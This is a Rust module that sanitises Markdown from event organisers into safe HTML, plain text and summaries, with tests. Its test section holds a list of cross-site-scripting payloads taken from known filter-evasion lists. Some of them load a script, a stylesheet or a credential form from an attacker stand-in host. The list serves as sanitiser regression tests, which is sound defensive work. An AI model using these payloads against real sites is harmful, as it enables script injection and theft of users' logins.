//! Markdown of organisers: safe HTML for pages, plain text for summaries, mail and calendars.
//!
//! HTML tags in the source are dropped and their text stays, so all markup comes from Markdown; ammonia then lets only
//! listed tags, attributes and URL schemes through. Both walls must fall before a script runs, and the pages' content
//! security policy is the third.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

const TAGS: [&str; 27] = [
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "blockquote",
    "ul",
    "ol",
    "li",
    "code",
    "pre",
    "a",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "sup",
    "sub",
    "span",
];

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(sanitiser);
static TAG_STRIPPER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(ammonia::Builder::empty);

/// HTML of the Markdown, to be placed under a heading of level 2: the text's own headings start at level 3, so a page
/// keeps one h1 and its outline has no gap.
pub fn to_html(markdown: &str) -> String {
    let mut rendered = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut rendered, safe_events(markdown).into_iter());
    SANITISER.clean(&rendered).to_string()
}

/// The text alone; blocks are separated by line breaks, pictures stand for their descriptions.
pub fn to_text(markdown: &str) -> String {
    let mut text = String::with_capacity(markdown.len());
    for event in safe_events(markdown) {
        match event {
            Event::Text(part) | Event::Code(part) => text.push_str(&part),
            Event::SoftBreak => text.push(' '),
            Event::HardBreak | Event::Rule => text.push('\n'),
            Event::Start(Tag::Item) => text.push_str("- "),
            Event::End(TagEnd::TableCell) => text.push(' '),
            Event::End(
                TagEnd::Paragraph
                | TagEnd::Heading(_)
                | TagEnd::CodeBlock
                | TagEnd::Item
                | TagEnd::TableRow
                | TagEnd::TableHead,
            ) => text.push('\n'),
            _ => {}
        }
    }
    let lines: Vec<&str> = text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    lines.join("\n")
}

/// One line of at most `characters_max` characters, cut after a whole word where there is one.
pub fn summary(markdown: &str, characters_max: usize) -> String {
    let line = to_text(markdown).split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= characters_max {
        return line;
    }
    let room = characters_max.saturating_sub(1);
    let kept: String = line.chars().take(room).collect();
    let ends_with_a_word = line.chars().nth(room) == Some(' ');
    let whole_words = kept.rsplit_once(' ').filter(|_| !ends_with_a_word).map_or(kept.as_str(), |(words, _)| words);
    // A text without spaces (Chinese, a long address) is cut where it must be.
    let kept = if whole_words.len() * 2 < kept.len() { kept.as_str() } else { whole_words };
    format!("{}…", kept.trim_end_matches([' ', ',', ';', ':', '.', '-']))
}

fn sanitiser() -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("img", HashSet::from(["src", "alt", "title"])),
            ("ol", HashSet::from(["start"])),
            ("code", HashSet::new()),
        ]))
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener nofollow ugc"))
        .set_tag_attribute_value("img", "loading", "lazy")
        .attribute_filter(|tag, attribute, value| {
            let insecure_picture = tag == "img" && attribute == "src" && !is_https(value);
            if insecure_picture { None } else { Some(value.into()) }
        });
    builder
}

fn is_https(url: &str) -> bool {
    url.get(..8).is_some_and(|scheme| scheme.eq_ignore_ascii_case("https://"))
}

/// The parsed text with raw HTML reduced to its text, headings demoted, and pictures that are not https replaced by
/// their descriptions.
fn safe_events(markdown: &str) -> Vec<Event<'_>> {
    let mut events: Vec<Event<'_>> = Vec::new();
    let mut raw_block: Option<String> = None;
    let mut pictures_kept = Vec::new();
    for event in Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
        match event {
            Event::Start(Tag::HtmlBlock) => raw_block = Some(String::new()),
            Event::Html(raw) => raw_block.get_or_insert_default().push_str(&raw),
            Event::End(TagEnd::HtmlBlock) => events.extend(text_block(&raw_block.take().unwrap_or_default())),
            Event::InlineHtml(raw) => {
                let is_break = raw.get(..3).is_some_and(|tag| tag.eq_ignore_ascii_case("<br"));
                events.extend(is_break.then_some(Event::HardBreak));
            }
            Event::Start(Tag::Heading { level, classes, attrs, .. }) => {
                events.push(Event::Start(Tag::Heading { level: demote(level), id: None, classes, attrs }));
            }
            Event::End(TagEnd::Heading(level)) => events.push(Event::End(TagEnd::Heading(demote(level)))),
            Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
                let keep = is_https(&dest_url);
                pictures_kept.push(keep);
                events.extend(keep.then_some(Event::Start(Tag::Image { link_type, dest_url, title, id })));
            }
            Event::End(TagEnd::Image) => {
                let keep = pictures_kept.pop().unwrap_or(false);
                events.extend(keep.then_some(Event::End(TagEnd::Image)));
            }
            other => events.push(other),
        }
    }
    events
}

fn text_block(raw: &str) -> Vec<Event<'static>> {
    let escaped = TAG_STRIPPER.clean(raw).to_string();
    let text = unescape(escaped.trim());
    if text.is_empty() {
        return Vec::new();
    }
    vec![Event::Start(Tag::Paragraph), Event::Text(CowStr::from(text)), Event::End(TagEnd::Paragraph)]
}

/// Undoes the five escapes that ammonia writes in text.
fn unescape(escaped: &str) -> String {
    escaped
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&nbsp;", " ")
        .replace("&amp;", "&")
}

fn demote(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn ordinary_texts_look_as_written() {
        let markdown =
            "# Programme\n\nDoors **19:00**, *free* ~~€5~~ soup.  \nBring `cash`.\n\n1. Ana\n2. Bo\n\n> quote\n\n---\n";
        assert_eq!(
            to_html(markdown),
            "<h3>Programme</h3>\n<p>Doors <strong>19:00</strong>, <em>free</em> <del>€5</del> soup.<br>\nBring \
             <code>cash</code>.</p>\n<ol>\n<li>Ana</li>\n<li>Bo</li>\n</ol>\n<blockquote>\n<p>quote</p>\n</blockquote>\n<hr>\n"
        );
    }

    #[test]
    fn headings_leave_the_first_two_levels_to_the_page() {
        assert_eq!(to_html("# a\n## b\n### c\n#### d\n"), "<h3>a</h3>\n<h4>b</h4>\n<h5>c</h5>\n<h6>d</h6>\n");
        assert_eq!(to_html("<h1>mine</h1>"), "<p>mine</p>\n");
    }

    #[test]
    fn tables_are_allowed() {
        let html = to_html("| Act | Time |\n|---|--:|\n| Ana | 20:00 |\n");
        assert!(html.starts_with("<table><thead><tr><th>Act</th><th>Time</th></tr></thead><tbody>"), "{html}");
    }

    #[test]
    fn links_are_marked_and_only_known_schemes_stay() {
        assert_eq!(
            to_html("[a](https://a.example/?x=1&y=2 \"t\")"),
            "<p><a href=\"https://a.example/?x=1&amp;y=2\" title=\"t\" rel=\"noopener nofollow ugc\">a</a></p>\n"
        );
        assert!(to_html("[m](mailto:a@b.example) [t](tel:+31)").matches("href=").count() == 2);
        for link in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,x",
            "vbscript:x",
            "/account",
            "//evil.example",
            "#x",
        ] {
            assert!(!to_html(&format!("[a]({link})")).contains("href"), "{link}");
        }
    }

    #[test]
    fn pictures_are_https_or_their_description() {
        assert_eq!(
            to_html("![Band](https://a.example/b.jpg)"),
            "<p><img src=\"https://a.example/b.jpg\" alt=\"Band\" loading=\"lazy\"></p>\n"
        );
        for url in [
            "http://a.example/b.jpg",
            "/b.jpg",
            "data:image/png;base64,AAAA",
            "javascript:alert(1)",
            "//a.example/b.jpg",
        ] {
            assert_eq!(to_html(&format!("![Band]({url})")), "<p>Band</p>\n", "{url}");
        }
    }

    /// After the OWASP filter evasion cheat sheet and DOMPurify's and marked's regression lists.
    const PAYLOADS: [&str; 38] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](\u{1}javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](x \"onerror=alert(1)\")",
        "![\" onerror=\"alert(1)](https://a.example/x)",
        "![x](https://a.example/\"onerror=\"alert(1))",
        "[x](https://a.example/ \"\\\" onmouseover=alert(1) x=\\\"\")",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=code><button>Sign in</button></form>",
        "<details open ontoggle=alert(1)>",
        "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "<!--><img src=x onerror=alert(1)>-->",
    ];

    /// Reads the result as a browser would and lists what is not allowed in it.
    fn dangers(html: &str) -> Vec<String> {
        let allowed = HashSet::from(TAGS);
        let mut found = Vec::new();
        for piece in html.split('<').skip(1) {
            let Some((inside, _)) = piece.split_once('>') else {
                found.push(format!("open tag: {piece}"));
                continue;
            };
            let inside = inside.trim_start_matches('/').trim_end_matches('/');
            let name = inside.split([' ', '\n', '\t']).next().unwrap_or_default();
            if !allowed.contains(name) {
                found.push(format!("tag {name}"));
            }
            // Attribute values are quoted and their quotes escaped, so every second part lies outside of a value.
            for names in inside[name.len()..].split('"').step_by(2) {
                let attribute = names.trim().trim_end_matches('=');
                if !["", "href", "src", "alt", "title", "rel", "start", "loading"].contains(&attribute) {
                    found.push(format!("attribute {attribute}"));
                }
            }
            for scheme in ["=\"javascript", "=\"data:", "=\"vbscript"] {
                if inside.to_lowercase().contains(scheme) {
                    found.push(format!("scheme in {inside}"));
                }
            }
        }
        found
    }

    #[test]
    fn no_payload_leaves_markup_of_its_own() {
        for payload in PAYLOADS {
            for markdown in [
                payload.to_owned(),
                format!("text {payload} text"),
                format!("> {payload}"),
                format!("- a\n\n  {payload}"),
            ] {
                let html = to_html(&markdown);
                assert_eq!(dangers(&html), Vec::<String>::new(), "{markdown:?} became {html:?}");
            }
        }
    }

    #[test]
    fn the_check_for_dangers_sees_them() {
        for html in [
            "<script>",
            "<p onclick=\"x\">",
            "<a href=\"javascript:x\">",
            "<img src=\"data:x\">",
            "<p",
            "<p style=\"x\">",
        ] {
            assert!(!dangers(html).is_empty(), "{html}");
        }
    }

    #[test]
    fn deep_nesting_is_survived() {
        for piece in [">", "- ", "*", "[", "![", "<b>", "`"] {
            let html = to_html(&piece.repeat(5_000));
            assert_eq!(dangers(&html), Vec::<String>::new(), "{piece}");
        }
    }

    #[test]
    fn plain_text_keeps_words_and_breaks() {
        let markdown = "# Night\n\nJazz & *soup*,\nall<br>night <b>long</b>.\n\n- one\n- two\n\n<div>three < four</div>\n\n![Band](https://a.example/b)";
        assert_eq!(to_text(markdown), "Night\nJazz & soup, all\nnight long.\n- one\n- two\nthree < four\nBand");
    }

    #[test]
    fn summaries_end_with_a_whole_word() {
        assert_eq!(summary("Short *one*.", 20), "Short one.");
        assert_eq!(summary("An evening of jazz, soup and long conversations", 25), "An evening of jazz, soup…");
        assert_eq!(summary(&"長".repeat(30), 10), format!("{}…", "長".repeat(9)));
        assert_eq!(summary("", 10), "");
    }

    proptest! {
        #[test]
        fn nothing_that_is_typed_gets_out(markdown in "[a-z<>/\"'=:;&#!\\[\\]()`*_ \n|~-]{0,200}") {
            let html = to_html(&markdown);
            prop_assert_eq!(dangers(&html), Vec::<String>::new());
        }

        #[test]
        fn a_summary_is_never_longer_than_asked(markdown in "\\PC{0,300}", limit in 1_usize..100) {
            prop_assert!(summary(&markdown, limit).chars().count() <= limit);
        }
    }
}
